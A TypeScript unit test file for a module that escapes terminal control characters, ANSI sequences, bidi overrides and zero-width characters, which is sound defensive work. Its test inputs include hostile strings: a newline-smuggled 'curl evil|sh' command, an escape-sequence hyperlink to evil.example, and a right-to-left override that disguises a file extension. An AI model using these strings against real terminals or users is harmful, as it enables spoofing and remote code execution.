import { test } from 'node:test';
import assert from 'node:assert/strict';
import { escapeParts, escapeTerminal, escapeTerminalLine, hasControlCharacter, isolateLine } from './escape.js';

void test('escapeTerminal shows C0 (but TAB, LF), DEL, C1, bidi and zero-width characters', () => {
  const cases: [string, string][] = [
    ['', ''],
    ['plain text', 'plain text'],
    ['naïve ✓ 日本 café', 'naïve ✓ 日本 café'],
    ['tab\tand\nnewline', 'tab\tand\nnewline'],
    ['\x1b[31mred\x1b[0m', '^[[31mred^[[0m'],
    ['over\rwrite', 'over\\rwrite'],
    ['\r\n', '\\r\n'],
    ['\x1b\x1b\r\r', '^[^[\\r\\r'],
    ['\x00nul \x07bell \x08bs \x0bvt \x0cff \x1fus', '^@nul ^Gbell ^Hbs ^Kvt ^Lff ^_us'],
    ['del\x7f', 'del^?'],
    ['\x9b31mC1 CSI', '\\u009b31mC1 CSI'],
    ['\x9d0;title\x9c', '\\u009d0;title\\u009c'],
    ['\x80\x85\x9f', '\\u0080\\u0085\\u009f'],
    ['\x1b]8;;http://evil.example\x07click\x1b]8;;\x07', '^[]8;;http://evil.example^Gclick^[]8;;^G'],
    ['admin\u202egnp.exe', 'admin\\u202egnp.exe'],
    ['\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u061c', '\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069\\u061c'],
    ['zero\u200bwidth\u200c\u200d\u200e\u200f\ufeff', 'zero\\u200bwidth\\u200c\\u200d\\u200e\\u200f\\ufeff'],
    ['line\u2028sep\u2029', 'line\\u2028sep\\u2029'],
    ['word\u2060joiner', 'word\\u2060joiner'],
    ['a;b|c$(d)`e`\'f"g', 'a;b|c$(d)`e`\'f"g'],
  ];
  for (const [input, want] of cases) assert.equal(escapeTerminal(input), want, JSON.stringify(input));
});

void test('escapeTerminalLine also shows TAB and LF, so the text stays on one line', () => {
  const cases: [string, string][] = [
    ['one line', 'one line'],
    ['a\tb', 'a^Ib'],
    ['node-1\ncurl evil|sh', 'node-1^Jcurl evil|sh'],
    ['\r\n\x1b\u202e', '\\r^J^[\\u202e'],
  ];
  for (const [input, want] of cases) {
    const got = escapeTerminalLine(input);
    assert.equal(got, want, JSON.stringify(input));
    assert.equal(hasControlCharacter(got), false, JSON.stringify(got));
  }
});

void test('hasControlCharacter finds every character the escape rewrites, and only those', () => {
  for (let code = 0; code <= 0xffff; code++) {
    if (code >= 0xd800 && code <= 0xdfff) continue;
    const c = String.fromCharCode(code);
    assert.equal(hasControlCharacter(c), escapeTerminalLine(c) !== c, `U+${code.toString(16)}`);
    if (c !== '\t' && c !== '\n') assert.equal(escapeTerminal(c), escapeTerminalLine(c), `U+${code.toString(16)}`);
  }
  assert.equal(hasControlCharacter('plain-name.example'), false);
  assert.equal(hasControlCharacter('x\ny'), true);
});

void test('escapeParts are the escape in pieces: text as written, and each control apart as its escape', () => {
  const cases: [string, boolean, { text: string; control: boolean }[]][] = [
    ['', false, []],
    ['plain', false, [{ text: 'plain', control: false }]],
    ['exe.\u202elave', false, [{ text: 'exe.', control: false }, { text: '\\u202e', control: true }, { text: 'lave', control: false }]],
    ['\u200b\u2066x\u2069', false, [{ text: '\\u200b', control: true }, { text: '\\u2066', control: true }, { text: 'x', control: false }, { text: '\\u2069', control: true }]],
    ['a\tb\nc\x1b', false, [{ text: 'a\tb\nc', control: false }, { text: '^[', control: true }]],
    ['a\tb\nc\x1b', true, [{ text: 'a', control: false }, { text: '^I', control: true }, { text: 'b', control: false }, { text: '^J', control: true }, { text: 'c', control: false }, { text: '^[', control: true }]],
    ['\r', true, [{ text: '\\r', control: true }]],
  ];
  for (const [input, line, want] of cases) {
    const got = escapeParts(input, { line });
    assert.deepEqual(got, want, JSON.stringify(input));
    assert.equal(got.map((p) => p.text).join(''), line ? escapeTerminalLine(input) : escapeTerminal(input), JSON.stringify(input));
  }
});

void test('isolateLine escapes a value for one line and isolates it with FSI and PDI', () => {
  assert.equal(isolateLine('web'), '\u2068web\u2069');
  assert.equal(isolateLine('exe.\u202elave\nx'), '\u2068exe.\\u202elave^Jx\u2069');
  assert.equal(isolateLine(''), '\u2068\u2069');
});
